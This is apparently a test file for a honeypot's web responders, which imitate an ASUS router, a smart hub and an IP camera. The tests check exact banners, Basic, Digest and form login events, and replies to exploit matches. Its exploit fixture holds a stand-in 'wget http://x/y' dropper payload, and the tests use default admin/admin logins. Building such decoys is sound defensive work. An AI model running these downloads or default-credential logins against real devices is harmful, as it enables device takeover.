// The persona web responders built from the shipped packs: routes, HEAD, error pages byte-exact,
// Basic/Digest/form auth with auth.attempt events, exploit-aware answers.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { fileURLToPath } from 'node:url';
import { test } from 'node:test';
import type { ExploitMatch, HttpExchange, HttpRequest, HttpResponse } from '../core/http.ts';
import { loadPersonaPacks } from '../personas/load-pack.ts';
import { writeResponse } from '../protocols/http/response-writer.ts';
import { RecordingEmitter } from '../testing/recording-emitter.ts';
import { createWebResponder, webPorts } from './web-responder.ts';

const ROOT = fileURLToPath(new URL('../../personas', import.meta.url));
const personas = await loadPersonaPacks(ROOT);
const NOW = Date.UTC(2026, 10, 25, 18, 0, 0);
const DATE = 'Wed, 25 Nov 2026 18:00:00 GMT';

function responder(id: string, port = 80) {
  const persona = personas.find((p) => p.id === id);
  assert.ok(persona, id);
  const r = createWebResponder({ persona, port, random: (n) => new Uint8Array(n).fill(7) });
  assert.ok(r);
  return r;
}

function request(over: Partial<HttpRequest> & { readonly path?: string }): HttpRequest {
  const path = over.path ?? '/';
  const query = over.query ?? '';
  return {
    seq: 1, method: 'GET', target: query ? `${path}?${query}` : path, path, query, version: 'HTTP/1.1', headers: [],
    body: new Uint8Array(0), bodyBytes: 0, truncated: false, raw: null, error: null, tls: false, ...over,
  };
}

function exchange(events = new RecordingEmitter(), now = NOW): HttpExchange & { events: RecordingEmitter } {
  return { events, src: { ip: '203.0.113.9', port: 40000 }, dst: { ip: '127.0.0.1', port: 80 }, now: () => now };
}

const wire = (response: HttpResponse, method = 'GET'): string =>
  Buffer.from(writeResponse(response, { requestVersion: 'HTTP/1.1', omitBody: method === 'HEAD' })).toString('latin1');
const text = (r: HttpResponse): string => new TextDecoder().decode(r.body);
const header = (r: HttpResponse, name: string): string | undefined => r.headers.find(([n]) => n.toLowerCase() === name.toLowerCase())?.[1];
const form = (fields: string): Pick<HttpRequest, 'method' | 'body' | 'bodyBytes' | 'headers'> => ({
  method: 'POST', body: new TextEncoder().encode(fields), bodyBytes: fields.length, headers: [['Content-Type', 'application/x-www-form-urlencoded']],
});

test('every pack declares web ports that match its listening sockets; unknown ports get no responder', () => {
  const ports = Object.fromEntries(personas.map((p) => [p.id, webPorts(p).map((w) => `${w.port}${w.tls ? '/tls' : ''}`)]));
  assert.deepEqual(ports, { 'asus-rt-n12e-rtl8196c': ['80', '52869'], 'rk3308-smart-hub': ['80'], 'xm-ipc-hi3516d': ['80'] });
  const persona = personas[0];
  assert.ok(persona);
  assert.equal(createWebResponder({ persona, port: 8081 }), null);
});

test('camera: GET / is the NETSurveillance page from uc-httpd, HTTP/1.0, no length, closes', async () => {
  const r = await responder('xm-ipc-hi3516d').respond(request({}), exchange(), []);
  assert.equal(responder('xm-ipc-hi3516d').serverName, 'uc-httpd 1.0.0');
  assert.ok(wire(r).startsWith('HTTP/1.0 200 OK\r\nContent-type: text/html\r\nServer: uc-httpd 1.0.0\r\nExpires: 0\r\n\r\n<!DOCTYPE html'));
  assert.match(text(r), /<title>NETSurveillance WEB<\/title>/);
  assert.equal(r.close, true);
});

test('HEAD answers the same head with no body; Content-Length still counts the full body', async () => {
  const cam = responder('xm-ipc-hi3516d');
  const head = await cam.respond(request({ method: 'HEAD' }), exchange(), []);
  assert.equal(head.body.length, 0);
  assert.equal(wire(head, 'HEAD'), 'HTTP/1.0 200 OK\r\nContent-type: text/html\r\nServer: uc-httpd 1.0.0\r\nExpires: 0\r\n\r\n');
  const hub = responder('rk3308-smart-hub');
  const full = await hub.respond(request({}), exchange(), []);
  const bare = await hub.respond(request({ method: 'HEAD' }), exchange(), []);
  assert.equal(header(bare, 'content-length'), String(full.body.length));
  assert.equal(bare.body.length, 0);
});

test('router: no credentials gives the exact httpd 401 with realm RT-N12E', async () => {
  const r = await responder('asus-rt-n12e-rtl8196c').respond(request({ version: 'HTTP/1.0' }), exchange(), []);
  assert.equal(
    wire(r),
    `HTTP/1.0 401 Unauthorized\r\nServer: httpd\r\nDate: ${DATE}\r\nWWW-Authenticate: Basic realm="RT-N12E"\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n` +
      '<HTML><HEAD><TITLE>401 Unauthorized</TITLE></HEAD>\n<BODY BGCOLOR="#cc9999"><H4>401 Unauthorized</H4>\nAuthorization required.\n</BODY></HTML>\n',
  );
});

test('router: Basic good and bad are auth.attempt events counted per connection', async () => {
  const router = responder('asus-rt-n12e-rtl8196c');
  const basic = (user: string, pass: string) => request({ headers: [['Authorization', `Basic ${Buffer.from(`${user}:${pass}`).toString('base64')}`]] });
  const conn = exchange();
  const bad = await router.respond(basic('admin', 'password'), conn, []);
  const good = await router.respond(basic('admin', 'admin'), conn, []);
  assert.equal(bad.status, 401);
  assert.equal(good.status, 200);
  assert.equal(good.reason, 'Ok');
  assert.match(text(good), /<title>ASUS Wireless Router RT-N12E - Network Map<\/title>/);
  assert.match(text(good), /var lan_hwaddr = '30:85:A9:3C:12:E0'/);
  assert.deepEqual(conn.events.ofType('auth.attempt'), [
    { method: 'http-basic', username: 'admin', password: 'password', success: false, attempt: 1 },
    { method: 'http-basic', username: 'admin', password: 'admin', success: true, attempt: 2 },
  ]);
  const other = exchange();
  await router.respond(basic('root', ''), other, []);
  assert.equal(other.events.ofType('auth.attempt')[0]?.attempt, 1);
});

function digestHeader(challenge: string, user: string, pass: string, method: string, uri: string): string {
  const nonce = /nonce="([^"]+)"/.exec(challenge)?.[1] ?? '';
  const realm = /realm="([^"]+)"/.exec(challenge)?.[1] ?? '';
  const md5 = (s: string) => createHash('md5').update(s).digest('hex');
  const cnonce = 'abcdef0123456789';
  const response = md5(`${md5(`${user}:${realm}:${pass}`)}:${nonce}:00000001:${cnonce}:auth:${md5(`${method}:${uri}`)}`);
  return `Digest username="${user}", realm="${realm}", nonce="${nonce}", uri="${uri}", algorithm=MD5, response="${response}", qop=auth, nc=00000001, cnonce="${cnonce}"`;
}

test('hub: Digest challenge, good and bad responses, stale and forged nonces', async () => {
  const hub = responder('rk3308-smart-hub');
  const conn = exchange();
  const challenge = await hub.respond(request({ path: '/api/v1/info' }), conn, []);
  assert.equal(challenge.status, 401);
  const www = header(challenge, 'www-authenticate') ?? '';
  assert.match(www, /^Digest realm="zgw-api", nonce="[0-9a-f]{40}", qop="auth"$/);
  const ok = await hub.respond(request({ path: '/api/v1/info', headers: [['Authorization', digestHeader(www, 'admin', 'admin', 'GET', '/api/v1/info')]] }), conn, []);
  assert.equal(ok.status, 200);
  assert.equal(JSON.parse(text(ok)).model, 'ZGW-3308');
  const bad = await hub.respond(request({ path: '/api/v1/info', headers: [['Authorization', digestHeader(www, 'admin', 'nope', 'GET', '/api/v1/info')]] }), conn, []);
  assert.equal(bad.status, 401);
  const forged = www.replace(/nonce="[0-9a-f]{8}/, 'nonce="00000000');
  await hub.respond(request({ path: '/api/v1/info', headers: [['Authorization', digestHeader(forged, 'admin', 'admin', 'GET', '/api/v1/info')]] }), conn, []);
  assert.deepEqual(conn.events.ofType('auth.attempt'), [
    { method: 'http-digest', username: 'admin', password: '', success: true, attempt: 1 },
    { method: 'http-digest', username: 'admin', password: '', success: false, attempt: 2 },
    { method: 'http-digest', username: 'admin', password: '', success: false, attempt: 3 },
  ]);
  const later = exchange(new RecordingEmitter(), NOW + 601_000);
  const stale = await hub.respond(request({ path: '/api/v1/info', headers: [['Authorization', digestHeader(www, 'admin', 'admin', 'GET', '/api/v1/info')]] }), later, []);
  assert.equal(stale.status, 401);
  assert.match(header(stale, 'www-authenticate') ?? '', /qop="auth", stale=true$/);
  assert.equal(later.events.ofType('auth.attempt').length, 0);
});

test('hub: login form sets a session cookie that opens the home page; failure redirects back', async () => {
  const hub = responder('rk3308-smart-hub');
  const conn = exchange();
  const denied = await hub.respond(request({ path: '/home.html' }), conn, []);
  assert.equal(denied.status, 302);
  assert.equal(header(denied, 'location'), '/index.html');
  const fail = await hub.respond(request({ path: '/cgi-bin/login.cgi', ...form('username=admin&password=guess') }), conn, []);
  assert.equal(header(fail, 'location'), '/index.html?err=1');
  const ok = await hub.respond(request({ path: '/cgi-bin/login.cgi', ...form('username=admin&password=admin') }), conn, []);
  assert.equal(ok.status, 302);
  const cookie = /^ZGWSID=([0-9a-f]{32}); Path=\/; HttpOnly$/.exec(header(ok, 'set-cookie') ?? '');
  assert.ok(cookie, header(ok, 'set-cookie'));
  const home = await hub.respond(request({ path: '/home.html', headers: [['Cookie', `lang=en; ZGWSID=${cookie[1] ?? ''}`]] }), conn, []);
  assert.equal(home.status, 200);
  assert.match(text(home), /<h1>zgw-3308<\/h1>/);
  assert.deepEqual(conn.events.ofType('auth.attempt').map((a) => [a.method, a.password, a.success, a.attempt]), [
    ['http-form', 'guess', false, 1],
    ['http-form', 'admin', true, 2],
  ]);
});

test('camera: Login.htm form answers the DVR page on success and the alert page on failure', async () => {
  const cam = responder('xm-ipc-hi3516d');
  const conn = exchange();
  const ok = await cam.respond(request({ path: '/Login.htm', ...form('command=login&username=admin&password=') }), conn, []);
  assert.match(text(ok), /g_SoftWareVersion="V4\.02\.R12\.00035520\.10010\.340b00\.0000000"/);
  const bad = await cam.respond(request({ path: '/Login.htm', ...form('command=login&username=admin&password=123%20456') }), conn, []);
  assert.match(text(bad), /Incorrect user name or password/);
  assert.deepEqual(conn.events.ofType('auth.attempt')[1], { method: 'http-form', username: 'admin', password: '123 456', success: false, attempt: 2 });
});

const LIGHTTPD_404 =
  '<?xml version="1.0" encoding="iso-8859-1"?>\n<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN"\n         "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">\n' +
  '<html xmlns="http://www.w3.org/1999/xhtml" xml:lang="en" lang="en">\n <head>\n  <title>404 - Not Found</title>\n </head>\n <body>\n  <h1>404 - Not Found</h1>\n </body>\n</html>\n';

test('error pages are byte-exact; lighttpd mirrors HTTP/1.0 and closes, keeps HTTP/1.1 open', async () => {
  const hub = responder('rk3308-smart-hub');
  const r10 = await hub.respond(request({ path: '/nope', version: 'HTTP/1.0' }), exchange(), []);
  assert.equal(wire(r10), `HTTP/1.0 404 Not Found\r\nContent-Type: text/html\r\nContent-Length: 345\r\nDate: ${DATE}\r\nServer: lighttpd/1.4.48\r\n\r\n${LIGHTTPD_404}`);
  assert.equal(r10.close, true);
  const r11 = await hub.respond(request({ path: '/nope' }), exchange(), []);
  assert.equal(r11.version, 'HTTP/1.1');
  assert.equal(r11.close, false);
  const router = responder('asus-rt-n12e-rtl8196c');
  const r501 = await router.respond(request({ method: 'PROPFIND' }), exchange(), []);
  assert.equal(
    wire(r501),
    `HTTP/1.0 501 Not Implemented\r\nServer: httpd\r\nDate: ${DATE}\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n` +
      '<HTML><HEAD><TITLE>501 Not Implemented</TITLE></HEAD>\n<BODY BGCOLOR="#cc9999"><H4>501 Not Implemented</H4>\nThat method is not implemented.\n</BODY></HTML>\n',
  );
  const malformed = await router.respond(request({ method: '', error: 'bad request line', raw: new Uint8Array([1, 2]) }), exchange(), []);
  assert.equal(malformed.status, 400);
  assert.match(text(malformed), /Can't parse request/);
  const wrong = await hub.respond(request({ path: '/index.html', method: 'DELETE' }), exchange(), []);
  assert.equal(wrong.status, 405);
});

const match = (response: HttpResponse | null): ExploitMatch => ({
  signature: 'test-sig', name: 'Test', cves: [], vendor: 'x', product: 'y', technique: 'T1190', classes: ['router'], payload: 'wget http://x/y', evidence: 'q', response,
});

test('exploits: a signature response wins; else the device answers (a vulnerable CGI 200 for unknown paths, or its auth)', async () => {
  const router = responder('asus-rt-n12e-rtl8196c');
  const forged: HttpResponse = { status: 200, reason: 'OK', headers: [['Content-Type', 'text/xml']], body: new TextEncoder().encode('<ok/>') };
  const a = await router.respond(request({ path: '/picsdesc.xml', method: 'POST' }), exchange(), [match(null), match(forged)]);
  assert.equal(text(a), '<ok/>');
  assert.equal(a.version, 'HTTP/1.0');
  const hub = responder('rk3308-smart-hub');
  const b = await hub.respond(request({ path: '/cgi-bin/unknown.cgi' }), exchange(), [match(null)]);
  assert.equal(b.status, 200);
  assert.equal(b.body.length, 0);
  assert.equal(header(b, 'content-length'), '0');
  const c = await hub.respond(request({ path: '/cgi-bin/unknown.cgi' }), exchange(), []);
  assert.equal(c.status, 404);
  // The router's httpd asks for the password before anything else, exploit or not.
  assert.equal((await router.respond(request({ path: '/cgi-bin/unknown.cgi' }), exchange(), [match(null)])).status, 401);
});

test('percent-encoded paths reach their route', async () => {
  const r = await responder('rk3308-smart-hub').respond(request({ path: '/%69ndex.html' }), exchange(), []);
  assert.equal(r.status, 200);
});

test('router miniigd on 52869: description, SOAP fault, and an empty 200 for an exploit POST', async () => {
  const igd = responder('asus-rt-n12e-rtl8196c', 52869);
  assert.equal(igd.serverName, 'miniupnpd/1.0 UPnP/1.0');
  const desc = await igd.respond(request({ path: '/picsdesc.xml' }), exchange(), []);
  assert.match(wire(desc), /^HTTP\/1\.1 200 OK\r\nContent-Type: text\/xml\r\nConnection: close\r\nContent-Length: \d+\r\nServer: miniupnpd\/1\.0 UPnP\/1\.0\r\n\r\n<\?xml/);
  assert.match(text(desc), /<friendlyName>RT-N12E C1<\/friendlyName>/);
  const post = request({ path: '/picsdesc.xml', method: 'POST', headers: [['SOAPAction', 'urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping']] });
  assert.equal((await igd.respond(post, exchange(), [])).status, 501);
  const exploited = await igd.respond(post, exchange(), [match(null)]);
  assert.equal(exploited.status, 200);
  assert.equal(header(exploited, 'content-length'), '0');
  assert.equal((await igd.respond(request({ path: '/upnp/control/WANIPConn1', method: 'POST' }), exchange(), [])).status, 500);
});
